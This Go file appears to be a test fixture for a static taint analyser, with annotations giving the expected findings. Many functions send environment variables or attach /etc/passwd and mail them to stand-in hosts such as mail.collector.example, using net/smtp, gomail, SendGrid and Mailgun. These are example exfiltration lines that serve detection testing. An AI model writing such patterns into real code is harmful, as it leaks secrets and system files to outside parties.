// Mail: net/smtp and the libraries that send messages.
package models

import (
	"context"
	"net"
	"net/smtp"
	"os"
	"strings"

	"github.com/jordan-wright/email"
	mailgun "github.com/mailgun/mailgun-go/v4"
	sendgrid "github.com/sendgrid/sendgrid-go"
	sgmail "github.com/sendgrid/sendgrid-go/helpers/mail"
	gomail "gopkg.in/gomail.v2"
)

const U = "https://collector.example/u?"

func sent() {
	smtp.SendMail("mail.collector.example:25", nil, "a@b.example", []string{"c@d.example"}, []byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f1, sink(egress.mail) f1, finding(traced) f1, capability(MAIL), endpoint("mail.collector.example:25")
}

func sentConstant() {
	smtp.SendMail("mail.collector.example:25", nil, "a@b.example", []string{"c@d.example"}, []byte("ping")) //~ ok
}

func dialled() {
	c, _ := smtp.Dial("smtp.collector.example:25") //~ capability(MAIL), endpoint("smtp.collector.example:25")
	c.Mail(os.Getenv("T")) //~ source(ENVIRONMENT) f3, sink(egress.mail) f3, finding(traced) f3
}

func dialledConstant() {
	c, _ := smtp.Dial("smtp.collector.example:25") //~ ok
	c.Mail("a@b.example") //~ ok
}

func made(conn net.Conn) {
	c, _ := smtp.NewClient(conn, "client.collector.example") //~ capability(MAIL), endpoint("client.collector.example")
	c.Mail(os.Getenv("T")) //~ source(ENVIRONMENT) f5, sink(egress.mail) f5, finding(traced) f5
}

func madeConstant(conn net.Conn) {
	c, _ := smtp.NewClient(conn, "client.collector.example") //~ ok
	c.Mail("a@b.example")
}

func addressed(c *smtp.Client) {
	c.Rcpt(os.Getenv("T") + "@collector.example") //~ source(ENVIRONMENT) f7, sink(egress.mail) f7, finding(traced) f7, capability(MAIL)
}

func addressedConstant(c *smtp.Client) {
	c.Rcpt("a@collector.example") //~ ok
}

func data(c *smtp.Client) {
	w, _ := c.Data() //~ capability(MAIL)
	w.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f9, sink(egress.mail) f9, finding(traced) f9
}

func dataConstant(c *smtp.Client) {
	w, _ := c.Data() //~ ok
	w.Write([]byte("ping"))
}

func dataWritten(c *smtp.Client) {
	w, _ := c.Data()
	w.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f11, sink(egress.mail) f11, finding(traced) f11
}

func dataWrittenConstant(c *smtp.Client) {
	w, _ := c.Data()
	w.Write([]byte("ping")) //~ ok
}

func message(d *gomail.Dialer) {
	m := gomail.NewMessage()
	m.SetBody("text/plain", os.Getenv("T")) //~ source(ENVIRONMENT) f13
	d.DialAndSend(m) //~ sink(egress.mail) f13, finding(traced) f13
}

func messageConstant(d *gomail.Dialer) {
	m := gomail.NewMessage() //~ ok
	m.SetBody("text/plain", "ping")
	d.DialAndSend(m) //~ ok
}

func messageBody(d *gomail.Dialer, m *gomail.Message) {
	m.SetHeader("Subject", os.Getenv("T")) //~ source(ENVIRONMENT) f15
	d.DialAndSend(m) //~ sink(egress.mail) f15, finding(traced) f15
}

func messageBodyConstant(d *gomail.Dialer, m *gomail.Message) {
	m.SetHeader("Subject", "ping") //~ ok
	d.DialAndSend(m) //~ ok
}

func messageFile(d *gomail.Dialer, m *gomail.Message) {
	m.Attach("/etc/passwd") //~ source(FILE) f17, capability(FILES)
	d.DialAndSend(m) //~ sink(egress.mail) f17, finding(traced) f17
}

func messageFileUnused(m *gomail.Message) {
	m.Attach("/etc/passwd") //~ ok
}

func dialer(m *gomail.Message) {
	d := gomail.NewDialer("gomail.collector.example", 25, "a", "b") //~ capability(MAIL), endpoint("gomail.collector.example")
	m.SetBody("text/plain", os.Getenv("T")) //~ source(ENVIRONMENT) f19
	d.DialAndSend(m) //~ sink(egress.mail) f19, finding(traced) f19
}

func dialerConstant(m *gomail.Message) {
	d := gomail.NewDialer("gomail.collector.example", 25, "a", "b") //~ ok
	d.DialAndSend(m) //~ ok
}

func dialledMessage(d *gomail.Dialer, m *gomail.Message) {
	m.SetBody("text/plain", os.Getenv("T")) //~ source(ENVIRONMENT) f21
	d.DialAndSend(m) //~ sink(egress.mail) f21, finding(traced) f21, capability(MAIL)
}

func dialledMessageConstant(d *gomail.Dialer, m *gomail.Message) {
	d.DialAndSend(m) //~ ok
}

func sentBy(s gomail.SendCloser, m *gomail.Message) {
	m.SetBody("text/plain", os.Getenv("T")) //~ source(ENVIRONMENT) f23
	gomail.Send(s, m) //~ sink(egress.mail) f23, finding(traced) f23, capability(MAIL)
}

func sentByConstant(s gomail.SendCloser, m *gomail.Message) {
	gomail.Send(s, m) //~ ok
}

func letter() {
	e := email.NewEmail()
	e.Text = []byte(os.Getenv("T")) //~ source(ENVIRONMENT) f25
	e.Send("email.collector.example:25", nil) //~ sink(egress.mail) f25, finding(traced) f25
}

func letterConstant() {
	e := email.NewEmail() //~ ok
	e.Text = []byte("ping")
	e.Send("email.collector.example:25", nil) //~ ok
}

func letterSent() {
	e := &email.Email{Subject: "t", Text: []byte(os.Getenv("T"))} //~ source(ENVIRONMENT) f27
	e.Send("email.collector.example:25", nil) //~ sink(egress.mail) f27, finding(traced) f27, capability(MAIL), endpoint("email.collector.example:25")
}

func letterSentConstant() {
	e := &email.Email{Subject: "t"}
	e.Send("email.collector.example:25", nil) //~ ok
}

func letterFile(e *email.Email) {
	e.AttachFile("/etc/passwd") //~ source(FILE) f29, capability(FILES)
	e.Send("email.collector.example:25", nil) //~ sink(egress.mail) f29, finding(traced) f29
}

func letterFileUnused(e *email.Email) {
	e.AttachFile("/etc/passwd") //~ ok
}

func letterReader(e *email.Email) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f31
	e.Attach(f, "passwd", "text/plain")
	e.Send("email.collector.example:25", nil) //~ sink(egress.mail) f31, finding(traced) f31
}

func letterReaderConstant(e *email.Email) {
	e.Attach(strings.NewReader("ping"), "a", "text/plain") //~ ok
	e.Send("email.collector.example:25", nil) //~ ok
}

func gridMessage(client *sendgrid.Client) {
	m := sgmail.NewSingleEmail(nil, "t", nil, os.Getenv("T"), "") //~ source(ENVIRONMENT) f33
	client.Send(m) //~ sink(egress.mail) f33, finding(traced) f33
}

func gridMessageConstant(client *sendgrid.Client) {
	m := sgmail.NewSingleEmail(nil, "t", nil, "ping", "") //~ ok
	client.Send(m) //~ ok
}

func grid() {
	client := sendgrid.NewSendClient("key") //~ capability(MAIL)
	client.Send(sgmail.NewSingleEmail(nil, "t", nil, os.Getenv("T"), "")) //~ source(ENVIRONMENT) f35, sink(egress.mail) f35, finding(traced) f35
}

func gridConstant() {
	client := sendgrid.NewSendClient("key") //~ ok
	client.Send(sgmail.NewSingleEmail(nil, "t", nil, "ping", "")) //~ ok
}

func gridSent(client *sendgrid.Client) {
	client.Send(sgmail.NewSingleEmail(nil, "t", nil, os.Getenv("T"), "")) //~ source(ENVIRONMENT) f37, sink(egress.mail) f37, finding(traced) f37, capability(MAIL)
}

func gridSentConstant(client *sendgrid.Client) {
	client.Send(nil) //~ ok
}

func gunSent(mg mailgun.Mailgun, ctx context.Context) {
	mg.Send(ctx, mailgun.NewMessage("a@b.example", "t", os.Getenv("T"), "c@d.example")) //~ source(ENVIRONMENT) f39, sink(egress.mail) f39, finding(traced) f39, capability(MAIL)
}

func gunSentConstant(mg mailgun.Mailgun, ctx context.Context) {
	mg.Send(ctx, nil) //~ ok
}
